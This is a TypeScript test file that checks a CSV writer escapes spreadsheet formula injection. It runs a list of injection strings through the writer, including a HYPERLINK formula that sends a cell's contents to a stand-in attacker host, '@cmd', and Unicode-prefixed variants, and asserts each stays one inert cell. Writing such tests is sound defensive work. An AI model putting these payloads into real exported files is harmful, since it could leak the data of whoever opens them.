import { readFileSync } from "node:fs";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvLine, defuseFormula, restoreFormula } from "#/lib/csv.ts";
import { sharedData } from "#/test/shared-data.ts";

const known = [
  "=1+1",
  "-1+1",
  "\t=1+1",
  "\n=1+1",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "@cmd",
  "＋1+1",
  "＠SUM(1)",
  "\u00a0=1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "\u2060 =1+1",
  "'=1+1",
  "''=1+1",
  "-0.5",
];
const harmless = [
  '"=1+1"',
  "a;=1+1",
  "a\r\n=1+1",
  "|calc",
  "𝟏=1",
  "'tis fine",
  "<script>alert(1)</script>",
  "",
];

function vectors(): string[] {
  if (!sharedData) return [];
  const file = JSON.parse(readFileSync(`${sharedData}/vectors/vectors.json`, "utf8"));
  return file.csv.map((vector: { value: string }) => vector.value);
}

const startsFormula = /^[=+\-@\t\r\n＝＋－＠]/u;
const invisible = /^[\s\p{Cf}]+/u;

describe("csvLine", () => {
  it.each([...known, ...harmless, ...vectors()])(
    "keeps %j from being a formula and one cell of one row",
    (value) => {
      const rows: string[][] = parse(csvLine(["key", value, 7]) + csvLine(["next", "", -0.5]));
      expect(rows).toHaveLength(2);
      expect(rows[1]).toEqual(["next", "", "-0.5"]);
      const cell = rows[0]?.[1] ?? "missing";
      expect(cell).not.toMatch(startsFormula);
      expect(cell.replace(invisible, "")).not.toMatch(startsFormula);
      expect(restoreFormula(cell)).toBe(value);
    },
  );

  it("leaves harmless text as it is", () => {
    for (const value of harmless) expect(defuseFormula(value)).toBe(value);
  });

  it("writes numbers bare, text quoted, nothing as nothing", () => {
    expect(csvLine([1.5, -2, true, null, undefined, 'say "a", b', "x"])).toBe(
      '1.5,-2,true,,,"say ""a"", b","x"\r\n',
    );
  });
});
